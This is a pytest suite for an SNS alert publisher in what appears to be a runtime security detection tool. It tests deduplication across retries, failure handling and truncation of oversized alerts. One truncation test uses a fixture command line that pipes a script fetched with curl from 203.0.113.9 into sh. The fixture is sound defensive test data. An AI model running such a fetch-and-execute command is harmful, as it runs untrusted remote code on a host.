"""The alert publisher on moto: SNS messages and attributes, once-only across retries,
per-entry failures, oversized alerts."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber
from test_runtime import REPO, Stack, make_stack

from functions.publish import (
    MAX_MESSAGE_BYTES,
    AlertMessage,
    InvalidAlert,
    Publisher,
    PublishError,
    PublishResult,
)
from functions.runtime import reset_runtime
from lanner.output import Alert
from lanner.priority import Priority

NOW = 1_795_849_230.0


@pytest.fixture
def stack(aws: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stack]:
    yield make_stack(monkeypatch)
    reset_runtime()


def alert(n: int = 0, **changes: Any) -> Alert:
    fields = {"ka.user.name": "bob", "ka.target.namespace": "payments"}
    a = Alert(
        time_ns=1_795_849_230_000_000_000 + n,
        rule="K8s Secret Read By Unexpected Identity",
        priority=Priority.WARNING,
        source="k8s_audit",
        hostname="lanner-eks-audit",
        message=f"Secret read (user=bob n={n})",
        tags=("k8s", "T1552"),
        output_fields=fields,
        uuid=f"6f1c1b2e-0000-5000-8000-{n:012d}",
    )
    for k, v in changes.items():
        setattr(a, k, v)
    return a


class Clock:
    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> float:
        return self.now


class Counts(dict[str, float]):
    def __call__(self, name: str, value: float) -> None:
        self[name] = self.get(name, 0) + value


def publisher(stack: Stack, sns: Any = None, ddb: Any = None, **kw: Any) -> Publisher:
    sns = sns or boto3.client("sns")
    ddb = ddb or boto3.client("dynamodb")
    return Publisher(lambda: sns, lambda: ddb, stack.topic_arn, stack.table, **kw)


class PartlyFailingSNS:
    """A real SNS client whose PublishBatch reports ``failing`` uuids as failed entries."""

    def __init__(self, failing: set[str]) -> None:
        self.real = boto3.client("sns")
        self.failing = failing
        self.calls: list[int] = []

    def publish_batch(self, TopicArn: str, PublishBatchRequestEntries: list[dict[str, Any]]) -> Any:
        self.calls.append(len(PublishBatchRequestEntries))
        bad = [
            e
            for e in PublishBatchRequestEntries
            if json.loads(e["Message"])["uuid"] in self.failing
        ]
        good = [e for e in PublishBatchRequestEntries if e not in bad]
        resp = (
            self.real.publish_batch(TopicArn=TopicArn, PublishBatchRequestEntries=good)
            if good
            else {"Successful": [], "Failed": []}
        )
        resp["Failed"] = resp.get("Failed", []) + [
            {
                "Id": e["Id"],
                "Code": "InternalError",
                "Message": "please retry",
                "SenderFault": False,
            }
            for e in bad
        ]
        return resp


def test_alert_goes_out_in_falcos_schema_with_routing_attributes(stack: Stack) -> None:
    counts = Counts()
    a = alert()
    assert publisher(stack, count=counts).publish([a]) == PublishResult(published=1, duplicates=0)
    [got] = stack.alerts()
    assert got["alert"] == a.to_dict()
    assert got["alert"]["output_fields"]["ka.user.name"] == "bob"
    assert got["attributes"] == {
        "priority": "4",
        "priority_name": "Warning",
        "rule": "K8s Secret Read By Unexpected Identity",
        "source": "k8s_audit",
        "hostname": "lanner-eks-audit",
        "tags": '["T1552", "k8s"]',
        "k8s_ns": "payments",
        "kind": "alert",
    }
    # What an SNS email subscription shows as the subject.
    assert got["subject"] == (
        "[Warning] K8s Secret Read By Unexpected Identity - namespace payments"
    )
    assert got["types"]["priority"] == "Number"
    assert got["types"]["tags"] == "String.Array"
    assert counts == {"AlertsOut": 1, "AlertsDuplicate": 0}


def test_namespace_attribute_only_when_known(stack: Stack) -> None:
    syscall = alert(1, source="syscall", output_fields={"k8s.ns.name": "shop", "proc.name": "nc"})
    unknown = alert(2, output_fields={"ka.target.namespace": "<NA>"})
    none = alert(3, output_fields={"ka.target.namespace": None})
    publisher(stack).publish([syscall, unknown, none])
    by_uuid = {m["alert"]["uuid"]: m["attributes"] for m in stack.alerts()}
    assert by_uuid[syscall.uuid]["k8s_ns"] == "shop"
    assert "k8s_ns" not in by_uuid[unknown.uuid]
    assert "k8s_ns" not in by_uuid[none.uuid]


def test_a_retry_publishes_nothing_twice(stack: Stack) -> None:
    counts = Counts()
    p = publisher(stack, count=counts)
    assert p.publish([alert(1), alert(2)]).published == 2
    # The retried invocation makes the same alerts (deterministic uuids), plus one new.
    assert p.publish([alert(1), alert(2), alert(3)]) == PublishResult(published=1, duplicates=2)
    # The same alert twice in one call also goes out once.
    assert p.publish([alert(4), alert(4)]) == PublishResult(published=1, duplicates=0)
    assert sorted(m["alert"]["uuid"] for m in stack.alerts()) == [
        alert(n).uuid for n in (1, 2, 3, 4)
    ]
    assert counts == {"AlertsOut": 4, "AlertsDuplicate": 2}


def _claimed_by_a_dead_invocation(stack: Stack, ident: str) -> None:
    boto3.client("dynamodb").put_item(
        TableName=stack.table,
        Item={
            "uuid": {"S": ident},
            "status": {"S": "in-progress"},
            "owner": {"S": "another-invocation"},
            "lease_until": {"N": str(NOW + 30)},
            "expires": {"N": str(int(NOW + 86400))},
        },
    )


class Sleep:
    """time.sleep for the publisher: advances the fake clock instead of waiting."""

    def __init__(self, clock: Clock, then: Any = None) -> None:
        self.clock, self.then, self.calls = clock, then, 0

    def __call__(self, seconds: float) -> None:
        self.calls += 1
        self.clock.now += seconds
        if self.then is not None:
            self.then()


def test_a_retry_waits_out_a_dead_invocations_claim_and_publishes(stack: Stack) -> None:
    # Before: every retry inside the 60 s lease failed with "being published by another
    # invocation", and a Kinesis record whose retries ran out was lost.
    clock = Clock()
    a = alert()
    _claimed_by_a_dead_invocation(stack, a.uuid)
    sleep = Sleep(clock)
    assert publisher(stack, clock=clock, sleep=sleep).publish([a]).published == 1
    assert clock.now >= NOW + 30  # it waited for the lease, not less
    assert [m["alert"]["uuid"] for m in stack.alerts()] == [a.uuid]


def test_a_claim_published_by_its_owner_while_waiting_is_a_duplicate(stack: Stack) -> None:
    clock = Clock()
    a = alert()
    _claimed_by_a_dead_invocation(stack, a.uuid)

    def owner_finishes() -> None:
        boto3.client("dynamodb").update_item(
            TableName=stack.table,
            Key={"uuid": {"S": a.uuid}},
            UpdateExpression="SET #s = :p",
            ExpressionAttributeNames={"#s": "status"},
            ExpressionAttributeValues={":p": {"S": "published"}},
        )

    sleep = Sleep(clock, then=owner_finishes)
    result = publisher(stack, clock=clock, sleep=sleep).publish([a])
    assert result == PublishResult(published=0, duplicates=1)
    assert sleep.calls == 1 and stack.alerts() == []


def test_without_time_left_to_wait_the_record_fails_and_is_retried(stack: Stack) -> None:
    clock = Clock()
    a = alert()
    _claimed_by_a_dead_invocation(stack, a.uuid)
    p = publisher(stack, clock=clock, sleep=Sleep(clock), deadline=lambda: 1.0)
    with pytest.raises(PublishError, match="being published by another invocation") as err:
        p.publish([a])
    assert err.value.failed == [a.uuid]
    assert stack.alerts() == []


def test_an_expired_dedup_entry_no_longer_suppresses(stack: Stack) -> None:
    # DynamoDB deletes TTL'd items late (moto never does): past "expires", an entry is gone.
    clock = Clock()
    p = publisher(stack, clock=clock, ttl_seconds=3600)
    p.publish([alert()])
    clock.now = NOW + 3000
    assert p.publish([alert()]) == PublishResult(published=0, duplicates=1)
    clock.now = NOW + 3601
    assert p.publish([alert()]) == PublishResult(published=1, duplicates=0)
    assert len(stack.alerts()) == 2


def test_failed_entries_fail_the_call_and_are_published_on_the_retry(stack: Stack) -> None:
    alerts = [alert(n) for n in range(3)]
    flaky = PartlyFailingSNS({alerts[1].uuid})
    with pytest.raises(PublishError, match="InternalError") as err:
        publisher(stack, sns=flaky).publish(alerts)
    assert err.value.failed == [alerts[1].uuid]
    assert err.value.result == PublishResult(published=2, duplicates=0)
    assert sorted(m["alert"]["uuid"] for m in stack.alerts()) == [alerts[0].uuid, alerts[2].uuid]
    # The failed entry's claim was released: the retry publishes it right away, and only it.
    assert publisher(stack).publish(alerts) == PublishResult(published=1, duplicates=2)
    assert [m["alert"]["uuid"] for m in stack.alerts()] == [alerts[1].uuid]


def test_sns_down_is_a_publish_error_and_nothing_is_marked(stack: Stack) -> None:
    sns = boto3.client("sns")
    with Stubber(sns) as stub:
        stub.add_client_error(
            "publish_batch", service_error_code="InternalError", http_status_code=500
        )
        with pytest.raises(PublishError, match="SNS"):
            publisher(stack, sns=sns).publish([alert()])
    assert boto3.client("dynamodb").scan(TableName=stack.table)["Items"] == []
    assert publisher(stack).publish([alert()]).published == 1
    assert len(stack.alerts()) == 1


def test_dynamodb_down_is_a_publish_error(stack: Stack) -> None:
    ddb = boto3.client("dynamodb")
    with Stubber(ddb) as stub:
        stub.add_client_error(
            "put_item",
            service_error_code="ProvisionedThroughputExceededException",
            http_status_code=400,
        )
        with pytest.raises(PublishError, match="dedup table"):
            publisher(stack, ddb=ddb).publish([alert()])
    assert stack.alerts() == []


def test_publish_batch_takes_ten_entries_a_call(stack: Stack) -> None:
    sns = PartlyFailingSNS(set())
    assert publisher(stack, sns=sns).publish([alert(n) for n in range(23)]).published == 23
    assert sns.calls == [10, 10, 3]
    assert len(stack.alerts()) == 23


def test_an_oversized_alert_is_cut_with_a_marker_not_dropped(stack: Stack) -> None:
    huge = "A" * (400 * 1024)
    a = alert(
        output_fields={"proc.cmdline": huge, "proc.name": "bash", "ka.target.namespace": "ns1"}
    )
    a.message = f"cmdline={huge}"
    msg = AlertMessage.of(a)
    assert msg.truncated and msg.size <= MAX_MESSAGE_BYTES
    publisher(stack).publish([a])
    [got] = stack.alerts()
    fields = got["alert"]["output_fields"]
    assert fields["proc.name"] == "bash"
    assert "…[truncated " in fields["proc.cmdline"] and " bytes]…" in fields["proc.cmdline"]
    assert got["alert"]["uuid"] == a.uuid and got["attributes"]["k8s_ns"] == "ns1"


def test_a_cut_keeps_head_and_tail_of_the_evidence_and_where_it_happened(stack: Stack) -> None:
    # Before: the value was cut to its first half and the tail (often the payload) was gone.
    cmd = "curl http://203.0.113.9/x.sh | sh -c '" + "B" * (300 * 1024) + "' # END-OF-PAYLOAD"
    where = {"k8s.ns.name": "payments" * 4000, "k8s.pod.name": "api-7d9f8b6c5d-x2x9q"}
    a = alert(output_fields={"proc.cmdline": cmd, **where})
    publisher(stack).publish([a])
    [got] = stack.alerts()
    fields = got["alert"]["output_fields"]
    assert fields["proc.cmdline"].startswith("curl http://203.0.113.9/x.sh | sh -c '")
    assert fields["proc.cmdline"].endswith("' # END-OF-PAYLOAD")
    assert "…[truncated " in fields["proc.cmdline"]
    assert fields["k8s.ns.name"] == where["k8s.ns.name"]  # where: never cut
    assert fields["k8s.pod.name"] == where["k8s.pod.name"]
    assert got["alert"]["rule"] == a.rule and got["alert"]["priority"] == "Warning"


def test_several_big_alerts_are_split_under_the_batch_size_limit(stack: Stack) -> None:
    alerts = [alert(n, output_fields={"big": "x" * (100 * 1024)}) for n in range(4)]
    sns = PartlyFailingSNS(set())
    assert publisher(stack, sns=sns).publish(alerts).published == 4
    assert sns.calls == [2, 2]
    assert all("truncated" not in m["alert"]["output_fields"]["big"] for m in stack.alerts())


def test_an_alert_document_is_published_as_it_is(stack: Stack) -> None:
    doc = {
        "uuid": "3b0d5c1e-7a0f-4a53-9a32-5b1b6a1f2c44",
        "output": "10:00:00.000000000: Critical Falco internal: syscall event drop. 12 system calls dropped.",
        "priority": "Critical",
        "rule": "Falco internal: syscall event drop",
        "time": "2026-11-28T10:00:00.000000000Z",
        "output_fields": {"n_drops": 12},
        "source": "internal",
        "tags": ["internal"],
        "hostname": "node-7",
    }
    publisher(stack).publish([doc])
    [got] = stack.alerts()
    assert got["alert"] == doc
    assert got["attributes"]["priority"] == "2" and got["attributes"]["hostname"] == "node-7"


def test_an_alert_document_without_uuid_gets_a_stable_one() -> None:
    doc = {"rule": "R", "priority": "Notice", "output": "x", "output_fields": {}}
    first, again = AlertMessage.of(doc), AlertMessage.of(dict(doc))
    assert first.uuid == again.uuid
    assert json.loads(first.body)["uuid"] == first.uuid


@pytest.mark.parametrize(
    ("doc", "why"),
    [
        ({"priority": "Notice"}, "no 'rule'"),
        ({"rule": "R", "priority": "loud"}, "unknown priority"),
    ],
)
def test_an_alert_document_needs_rule_and_priority(doc: dict[str, Any], why: str) -> None:
    with pytest.raises(InvalidAlert, match=why):
        AlertMessage.of(doc)


def test_undecodable_text_from_an_event_still_publishes(stack: Stack) -> None:
    # A file name with a byte that is not UTF-8 reaches the alert as a lone surrogate.
    a = alert(hostname="node-\udcff", output_fields={"fd.name": "/tmp/\udcffx"})
    assert publisher(stack).publish([a]).published == 1
    [got] = stack.alerts()
    assert got["alert"]["output_fields"]["fd.name"] == "/tmp/\udcffx"  # escaped, exact
    assert got["attributes"]["hostname"] == "node-?"


def test_a_record_without_a_usable_time_is_published_once_across_retries(stack: Stack) -> None:
    # eventTime that does not parse: the alert shows the wall clock, which differs on
    # the retry; its uuid comes from the record, so the retry is a duplicate.
    from lanner import Engine, builtin_sources, load_rules

    rules = load_rules([REPO / "rules"])
    record = json.loads((REPO / "tests/data/cloudtrail/stop_logging.json").read_text())
    record["eventTime"] = "not a time"
    first, retry = (
        Engine(rules, builtin_sources(), clock=lambda c=c: c).evaluate(record, "aws_cloudtrail")
        for c in (1_795_849_230_000_000_000, 1_795_849_290_000_000_000)
    )
    p = publisher(stack)
    assert p.publish(first) == PublishResult(published=1)
    assert p.publish(retry) == PublishResult(duplicates=1)
    [got] = stack.alerts()
    assert got["alert"]["rule"] == "AWS CloudTrail Trail Stopped Or Deleted"
